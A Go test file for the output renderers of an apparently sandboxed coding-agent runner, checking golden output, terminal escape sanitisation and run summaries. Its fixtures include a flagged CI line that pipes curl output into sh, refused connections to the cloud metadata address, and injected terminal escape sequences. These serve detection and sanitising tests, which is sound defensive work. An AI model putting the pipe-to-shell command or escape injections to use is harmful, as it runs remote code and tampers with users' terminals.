package render_test

import (
	"bufio"
	"bytes"
	"errors"
	"flag"
	"fmt"
	"os"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"github.com/sandbox-agent/sandbox-agent/internal/front/render"
	"github.com/sandbox-agent/sandbox-agent/workorder"
)

var update = flag.Bool("update", false, "write golden files anew")

func golden(t *testing.T, file, got string) {
	t.Helper()
	if *update {
		if err := os.WriteFile(file, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatalf("%v (write it with -update)", err)
	}
	if d := cmp.Diff(string(want), got); d != "" {
		t.Errorf("%s differs (-want +got):\n%s", file, d)
	}
}

func events(t *testing.T) []workorder.Event {
	t.Helper()
	f, err := os.Open("testdata/run.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var all []workorder.Event
	for s := bufio.NewScanner(f); s.Scan(); {
		e, err := workorder.DecodeEvent(s.Bytes())
		if err != nil {
			t.Fatal(err)
		}
		all = append(all, e)
	}
	return all
}

// clock is set by the test to the time of each event.
type clock struct{ t time.Time }

func (c *clock) now() time.Time { return c.t }

func TestPlain(t *testing.T) {
	var b bytes.Buffer
	r := render.New(render.Plain, &b, render.Options{Verbose: true})
	for _, e := range events(t) {
		r.Event(e)
	}
	r.Close()
	golden(t, "testdata/run.plain", b.String())
}

func TestJSON(t *testing.T) {
	var b bytes.Buffer
	r := render.New(render.JSON, &b, render.Options{})
	all := events(t)
	for _, e := range all {
		r.Event(e)
	}
	r.Event(workorder.Event{Seq: 99, Type: "x", Text: "<&>\u009b2J\x7f\u2028 é"})
	r.Close()
	lines := strings.Split(strings.TrimSpace(b.String()), "\n")
	if len(lines) != len(all)+1 {
		t.Fatalf("%d lines for %d events", len(lines), len(all)+1)
	}
	for i, e := range all {
		back, err := workorder.DecodeEvent([]byte(lines[i]))
		if err != nil {
			t.Fatal(err)
		}
		if d := cmp.Diff(e, back, cmpopts.EquateEmpty()); d != "" {
			t.Error(d)
		}
	}
	last := lines[len(lines)-1]
	if strings.ContainsAny(last, "\u009b\x7f") || !strings.Contains(last, "<&>") {
		t.Errorf("unsafe or escaped text: %q", last)
	}
	if back, err := workorder.DecodeEvent([]byte(last)); err != nil || back.Text != "<&>\u009b2J\x7f\u2028 é" {
		t.Errorf("text changed: %q, %v", back.Text, err)
	}
}

// TestTTY plays the run on a terminal and takes its picture at some events.
func TestTTY(t *testing.T) {
	for _, width := range []int{80, 40} {
		term := newTerminal(width)
		c := &clock{}
		r := render.New(render.TTY, term, render.Options{
			Now: c.now, Tick: make(chan time.Time), Width: func() int { return width },
		})
		var pictures strings.Builder
		for _, e := range events(t) {
			// Far enough apart that every event is painted.
			c.t = c.t.Add(50 * time.Millisecond)
			if e.Time.After(c.t) {
				c.t = e.Time
			}
			r.Event(e)
			switch e.Seq {
			case 7, 13, 19, 26:
				fmt.Fprintf(&pictures, "--- after event %d\n%s", e.Seq, term)
			}
		}
		r.Close()
		r.Close()
		fmt.Fprintf(&pictures, "--- closed\n%s", term)
		golden(t, fmt.Sprintf("testdata/run.tty%d", width), pictures.String())
	}
}

func TestTTYColor(t *testing.T) {
	var b bytes.Buffer
	term := newTerminal(80)
	c := &clock{}
	r := render.New(render.TTY, &both{&b, term}, render.Options{Color: true, Now: c.now, Tick: make(chan time.Time)})
	for _, e := range events(t) {
		c.t = e.Time.Add(time.Second)
		r.Event(e)
	}
	r.Close()
	if !strings.Contains(b.String(), "\x1b[32m✓ \x1b[0mclone") {
		t.Errorf("no colour in %q", b.String())
	}
	if strings.Contains(b.String(), "owned") || strings.Contains(b.String(), "\x1b]") || strings.Contains(b.String(), "\x1b[2J") {
		t.Error("the agent's escape sequences reached the terminal")
	}
}

type both struct {
	a, b interface{ Write([]byte) (int, error) }
}

func (w *both) Write(p []byte) (int, error) {
	_, _ = w.a.Write(p)
	return w.b.Write(p)
}

// TestTTYResize: the live part leaves nothing behind when the terminal narrows.
func TestTTYResize(t *testing.T) {
	term := newTerminal(80)
	width := 80
	c := &clock{t: time.Unix(1000, 0)}
	r := render.New(render.TTY, term, render.Options{Now: c.now, Tick: make(chan time.Time), Width: func() int { return width }})
	send := func(e workorder.Event) {
		c.t = c.t.Add(time.Second)
		e.Time = c.t
		r.Event(e)
	}
	send(workorder.Event{Type: workorder.EventStepFinished, Name: "clone", Status: "done"})
	send(workorder.Event{Type: workorder.EventStepStarted, Name: "setup"})
	send(workorder.Event{Type: workorder.EventOutput, Name: "setup", Text: strings.Repeat("long output ", 10)})
	width = 30
	term.resize(30)
	send(workorder.Event{Type: workorder.EventOutput, Name: "setup", Text: "short"})
	send(workorder.Event{Type: workorder.EventStepFinished, Name: "setup", Status: "done", DurationMS: 3000})
	r.Close()
	if d := cmp.Diff("✓ clone\n✓ setup (3.0s)\n", term.String()); d != "" {
		t.Error(d)
	}
}

// TestTTYTick: running times move without events, and a tick repaints what a
// flood of events held back.
func TestTTYTick(t *testing.T) {
	tick := make(chan time.Time)
	pictures := make(chan string, 100)
	c := &clock{t: time.Unix(1000, 0)}
	r := render.New(render.TTY, writerFunc(func(p []byte) (int, error) {
		pictures <- string(p)
		return len(p), nil
	}), render.Options{Now: c.now, Tick: tick})
	r.Event(workorder.Event{Type: workorder.EventStepStarted, Name: "clone", Time: c.t})
	if p := <-pictures; !strings.Contains(p, "clone 0.0s") {
		t.Errorf("first picture %q", p)
	}
	r.Event(workorder.Event{Type: workorder.EventWarning, Text: "held back", Time: c.t})
	select {
	case p := <-pictures:
		t.Errorf("painted twice at the same instant: %q", p)
	default:
	}
	c.t = c.t.Add(2500 * time.Millisecond)
	tick <- c.t
	if p := <-pictures; !strings.Contains(p, "clone 2.5s") || !strings.Contains(p, "held back") {
		t.Errorf("second picture %q", p)
	}
	r.Close()
}

// A log says once a minute what runs, where nothing else is said, and never when nothing runs.
func TestPlainSilence(t *testing.T) {
	tick, lines := make(chan time.Time), make(chan string, 100)
	var since atomic.Int64
	now := func() time.Time { return time.Unix(1000, 0).Add(time.Duration(since.Load())) }
	r := render.New(render.Plain, writerFunc(func(p []byte) (int, error) {
		lines <- string(p)
		return len(p), nil
	}), render.Options{Now: now, Tick: tick})
	defer r.Close()
	said := func(after time.Duration) (all []string) {
		since.Add(int64(after))
		tick <- now()
		tick <- now() // the first one was heard to its end
		for len(lines) > 0 {
			all = append(all, <-lines)
		}
		return all
	}
	event := func(kind workorder.EventType, name, text string) {
		r.Event(workorder.Event{Type: kind, Name: name, Text: text, Time: now()})
	}
	event(workorder.EventStepStarted, "setup", "")
	if got := said(59 * time.Second); len(got) != 1 { // its start
		t.Errorf("before a minute: %q", got)
	}
	event(workorder.EventOutput, "setup-1", "added 3 packages") // is not in such a log
	if got := said(time.Second); len(got) != 1 || !strings.Contains(got[0], "1m00s") || !strings.Contains(got[0], "added 3 packages") {
		t.Errorf("after a minute: %q", got)
	}
	if got := said(59 * time.Second); len(got) != 0 {
		t.Errorf("before the second: %q", got)
	}
	if got := said(time.Second); len(got) != 1 || !strings.Contains(got[0], "2m00s") {
		t.Errorf("after two minutes: %q", got)
	}
	event(workorder.EventStepFinished, "setup", "")
	<-lines
	if got := said(time.Hour); len(got) != 0 {
		t.Errorf("nothing runs: %q", got)
	}
}

type writerFunc func([]byte) (int, error)

func (f writerFunc) Write(p []byte) (int, error) { return f(p) }

// TestNothingBreaks sends nonsense to every renderer.
func TestNothingBreaks(t *testing.T) {
	nasty := []string{"", "\x1b", "\x1b[", "\x1b]", "\u009b", "\xff\xfe", "\r", "\n\n", "\t", strings.Repeat("x", 20_000), "漢字\u0301\u202e", "\x1b[31"}
	types := []workorder.EventType{"", "agent.", "agent.new", "\x1b[2J"}
	for _, e := range events(t) {
		types = append(types, e.Type)
	}
	for _, m := range []render.Mode{render.Plain, render.TTY, render.JSON} {
		for _, width := range []int{0, 1, 3, 80} {
			var b bytes.Buffer
			c := &clock{}
			r := render.New(m, &b, render.Options{Now: c.now, Tick: make(chan time.Time), Width: func() int { return width }, Height: func() int { return width }})
			for i, typ := range types {
				for j, s := range nasty {
					c.t = c.t.Add(time.Second)
					r.Event(workorder.Event{Seq: int64(i*1000 - j), Type: typ, Name: s, Text: s, Status: s, ID: s, DurationMS: int64(-j)})
				}
			}
			for i := range 1000 {
				r.Event(workorder.Event{Type: workorder.EventStepStarted, Name: fmt.Sprint("step", i)})
			}
			r.Close()
			r.Event(workorder.Event{Type: workorder.EventWarning, Text: "after the end"})
			for _, bad := range []string{"\x1b]", "\x1b[2J", "\u009b", "\u202e", "\xff"} {
				if m != render.JSON && strings.Contains(b.String(), bad) {
					t.Errorf("mode %d lets %q through", m, bad)
				}
			}
		}
	}
}

func TestReaderGone(t *testing.T) {
	for _, m := range []render.Mode{render.Plain, render.TTY, render.JSON} {
		r := render.New(m, writerFunc(func([]byte) (int, error) { return 0, errors.New("gone") }), render.Options{Tick: make(chan time.Time)})
		for _, e := range events(t) {
			r.Event(e)
		}
		r.Close()
	}
}

func TestUseColor(t *testing.T) {
	env := func(kv ...string) func(string) string {
		return func(k string) string {
			if len(kv) == 2 && kv[0] == k {
				return kv[1]
			}
			return ""
		}
	}
	if !render.UseColor(true, env()) || render.UseColor(false, env()) || render.UseColor(true, env("NO_COLOR", "1")) || render.UseColor(true, env("TERM", "dumb")) {
		t.Error("colour is used where it must not be, or not where it may")
	}
}

func TestSummary(t *testing.T) {
	one, zero := 1, 0
	cost, metered := 0.4212, 0.0123
	failed := &workorder.Result{
		TaskID: "T-A1B2C3D4", Project: "my-saas-app", Status: workorder.StatusFailed, EndedBy: workorder.EndedByValidation,
		Reasons: workorder.Because(workorder.ReasonValidation, "validation failed: lint"), NextCommand: "sandbox-agent logs T-A1B2C3D4", DurationMS: 72_345,
		Repo: "https://github.com/myorg/my-saas-app", BaseBranch: "main", Branch: "agent/T-A1B2C3D4-add-pagination",
		BaseSHA: "0123456789abcdef0123456789abcdef01234567", HeadSHA: "1", Pushed: true,
		Commits: []workorder.Commit{
			{SHA: "1111111111111111111111111111111111111111", Subject: "Add pagination to the users API"},
			{SHA: "2222222222222222222222222222222222222222", Subject: "\x1b[31mA subject that is far too long to be shown in a summary of eighty columns, by any measure"},
		},
		Steps: []workorder.Step{
			{Name: "engine", Status: workorder.StepDone, DurationMS: 700},
			{Name: "clone", Status: workorder.StepDone, DurationMS: 400},
			{Name: "packages", Status: workorder.StepSkipped},
			{Name: "services", Status: workorder.StepDone, DurationMS: 1700},
			{Name: "agent", Status: workorder.StepDone, DurationMS: 62_000},
			{Name: "validate", Status: workorder.StepFailed, DurationMS: 4200},
		},
		Agent: workorder.Agent{Harness: "claude-code", Version: "2.1.0", Model: "opus", ExitCode: &zero, Turns: 7},
		Usage: workorder.Usage{CostUSD: &cost, CostSource: "harness", InputTokens: 1234, OutputTokens: 567, CacheReadTokens: 1_234_567},
		Validation: []workorder.Validation{
			{Name: "test", Passed: true, DurationMS: 3200, Log: "logs/validate-test.log"},
			{Name: "typecheck", Passed: false, ExitCode: 2, DurationMS: 1000, Log: "logs/validate-typecheck.log", Tail: "one\ntwo\x1b[2J\n"},
		},
		Repairs: []workorder.RepairRound{
			{Number: 1, Failed: []string{"test", "lint\x1b[2J"}, Status: workorder.StatusSuccess, DurationMS: 1500, Validation: []workorder.Validation{{Passed: false}}},
			{Number: 2, Failed: []string{"test"}, Status: workorder.StatusBudgetExceeded, DurationMS: 500},
		},
		Proof: &workorder.Proof{
			Checks: []workorder.CheckProof{
				{Name: "test", Transition: workorder.TransitionFixed, Counts: map[workorder.Transition]int{workorder.TransitionFixed: 2, workorder.TransitionStillPasses: 9, workorder.TransitionDeleted: 1}},
				{Name: "lint", Transition: workorder.TransitionNotCompared, BaseTests: &workorder.CheckRun{Passed: true}},
				{Name: "unit", Transition: workorder.TransitionStillPasses, BaseTests: &workorder.CheckRun{ExitCode: 1}, BaseTestsFailed: make([]workorder.TestChange, 3)},
				{Name: "types", Transition: workorder.TransitionBroken},
			},
			TestFindings: []workorder.TestFinding{{Kind: workorder.FindingTestEdited, Path: "b_test.go", Text: "+1 −2"}, {Kind: workorder.FindingTestDeleted, Path: "a_test.go\x1b[2J", Line: 3, Text: "TestA is gone"}},
			Reasons:      workorder.Because(workorder.ReasonCheck, "lint was not run on base: it has no such command"),
		},
		Services: []workorder.ServiceEnd{{Name: "redis", State: "ready"}, {Name: "db", State: "exited", Log: "logs/db.log", Tail: "no space"}},
		PR:       &workorder.PR{Number: 7, State: "draft", URL: "https://github.com/myorg/my-saas-app/pull/7"},
		Surface: []workorder.SurfaceFinding{
			{Kind: "workflow", Path: ".github/workflows/ci.yml", Line: 12, Text: "runs: curl -s https://example.com | sh\x1b[2J", Severe: true},
			{Kind: "make", Path: "Makefile", Text: "new target deploy"},
		},
		Evidence: []workorder.Evidence{{Name: "screenshot", Path: "evidence/page.png"}},
		Warnings: []string{"the storage driver is vfs, which is slow: " + strings.Repeat("very ", 20) + "slow"},
	}
	learning := &workorder.Result{
		TaskID: "T-00000002", Status: workorder.StatusSuccess, Agent: workorder.Agent{Harness: "command"},
		Usage: workorder.Usage{CostUSD: &metered, CostSource: workorder.CostByGateway, InputTokens: 10},
		Network: &workorder.NetworkReport{Mode: workorder.NetworkRestricted, Hosts: []workorder.NetworkHost{
			{Host: "example.com", Port: 443, Protocol: "tcp", Status: workorder.NetworkRefused, Count: 3, By: []string{"curl (pid 12)", "x"}, Reason: "not allowed", Rule: "example.com"},
			{Host: "2001:db8::1", Port: 22, Protocol: "tcp", Status: workorder.NetworkRefused, Count: 1, By: []string{"ssh (pid 13)"}, Rule: "[2001:db8::1]:22"},
			{Host: "169.254.169.254", Port: 80, Protocol: "tcp", Status: workorder.NetworkRefused, Count: 1, Reason: "metadata of clouds\x1b[2J"},
			{Host: "dns.example", Protocol: "dns", Status: workorder.NetworkRefused, Count: 2, By: []string{"\x1b]0;x\x07evil"}, Rule: "dns.example"},
			{Host: "ok.example", Port: 443, Status: workorder.NetworkAllowed, Count: 100},
			{Host: "l.example", Port: 443, Status: workorder.NetworkLearned, Count: 1},
			{Host: "a.example", Port: 443, Protocol: "udp", Status: workorder.NetworkRefused},
			{Host: "b.example", Status: workorder.NetworkRefused},
			{Host: "c.example", Status: workorder.NetworkRefused},
		}},
		Refusals: []workorder.Refusal{{Rule: "privileged", Count: 2, Text: "a privileged container\x1b[2J", By: "docker (pid 7)"}, {Rule: "bind", Count: 1, Text: "a bind of /etc", By: "compose (pid 8)"}},
	}
	crashed := &workorder.Result{
		TaskID: "T-00000000", Status: workorder.StatusError, EndedBy: workorder.EndedByGit, Repo: "/x", DurationMS: 900,
		Reasons: workorder.Because(workorder.ReasonClone, "clone: authentication failed"), Agent: workorder.Agent{Harness: "command", ExitCode: &one},
	}
	bare := &workorder.Result{TaskID: "T-00000001", Status: workorder.StatusSuccess}
	planned := &workorder.Result{
		TaskID: "T-00000003", Status: workorder.StatusPlanned, Plan: "# Plan\n\n1. Do\x1b[2J it\n" + strings.Repeat("more\n", 200),
		NextCommand: "sandbox-agent create --from-plan T-00000003", Evidence: []workorder.Evidence{{Name: "the plan", Path: "plan.md"}},
	}
	var b bytes.Buffer
	for _, r := range []*workorder.Result{failed, learning, crashed, bare, planned, nil} {
		render.Summary(&b, r, render.SummaryOptions{All: true, Dir: "/home/me/.local/state/sandbox-agent/T-A1B2C3D4", Width: 80})
	}
	golden(t, "testdata/summary", b.String())
}
